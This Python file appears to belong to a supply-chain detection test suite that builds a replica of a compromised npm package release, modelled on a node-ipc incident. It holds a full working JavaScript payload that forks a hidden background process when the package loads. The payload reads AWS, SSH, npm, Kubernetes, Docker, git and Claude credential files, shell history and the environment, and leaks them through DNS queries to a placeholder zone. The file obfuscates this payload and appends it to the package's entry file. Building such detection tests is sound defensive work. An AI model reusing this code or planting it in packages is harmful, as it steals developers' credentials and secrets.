"""npm packages whose payload runs when they are loaded; no script is needed."""

from dataclasses import replace

from evals.replicas.ordinary.npm import message_bus
from evals.replicas.replica import ReleaseSpec, Replica, at
from evals.replicas.rewriting.javascript import minified
from evals.replicas.rewriting.javascript_strings import string_array

_FAMILY = "import-time"

#: Gathers keys, compresses, and asks a name server for names that carry the data.
_THROUGH_NAMES = """\
(function () {
  const fs = require('fs');
  const os = require('os');
  const path = require('path');
  const dns = require('dns');
  const zlib = require('zlib');
  const { fork } = require('child_process');

  const ZONE = 'sh.azurestatic.garganey.invalid';
  const PLACES = ['.aws/credentials', '.ssh/id_rsa', '.ssh/id_ed25519', '.npmrc', '.kube/config', '.docker/config.json',
    '.config/gcloud/credentials.db', '.azure/accessTokens.json', '.git-credentials', '.claude.json', '.zsh_history'];

  function gather() {
    const found = { e: process.env, h: os.hostname() };
    for (const place of PLACES) {
      const file = path.join(os.homedir(), place);
      if (fs.existsSync(file)) found[place] = fs.readFileSync(file, 'base64');
    }
    return zlib.gzipSync(JSON.stringify(found)).toString('hex');
  }

  function send(text) {
    const resolver = new dns.Resolver();
    resolver.setServers(['192.0.2.53']);
    const id = Math.random().toString(36).slice(2, 8);
    for (let place = 0; place < text.length; place += 62) {
      resolver.resolveTxt(text.slice(place, place + 62) + '.' + place / 62 + '.' + id + '.' + ZONE, () => {});
    }
  }

  if (process.env.__ntw === '1') {
    setTimeout(() => send(gather()), 3000);
  } else {
    fork(__filename, [], { detached: true, stdio: 'ignore', env: { ...process.env, __ntw: '1' } }).unref();
  }
})();
"""
_BUS = message_bus("garganey-bus")
_BUS = {**_BUS, "bus.cjs": _BUS["bus.js"]}
_BEFORE = ReleaseSpec(
    version="12.0.0",
    published=at("2024-06-02 10:00"),
    files=_BUS,
    manifest={"main": "bus.cjs", "exports": {"require": "./bus.cjs", "import": "./bus.js"}, "license": "MIT"},
    publisher=("riagarganey", "ria@garganey.test"),
)

REPLICAS: tuple[Replica, ...] = (
    Replica(
        id="node-ipc-2026",
        incident="node-ipc 12.0.1 (2026-05)",
        family=_FAMILY,
        ecosystem="npm",
        name="garganey-bus",
        before=_BEFORE,
        after=replace(
            _BEFORE,
            version="12.0.1",
            published=at("2026-05-14 14:00"),
            files={**_BUS, "bus.cjs": _BUS["bus.cjs"] + minified(string_array(_THROUGH_NAMES) or "")},
            payload=("bus.cjs",),
            plain={"bus.cjs": _BUS["bus.cjs"] + _THROUGH_NAMES},
        ),
        others=(
            replace(_BEFORE, version="9.1.5", published=at("2021-05-02 10:00")),
            replace(_BEFORE, version="9.1.6", published=at("2026-05-14 13:57")),
        ),
        reasons=(
            "dns-exfiltration",
            "credentials-read",
            "environment-sent",
            "obfuscated-code",
            "capability-gained",
            "hidden-code-gained",
            "harvest-and-send",
        ),
    ),
)
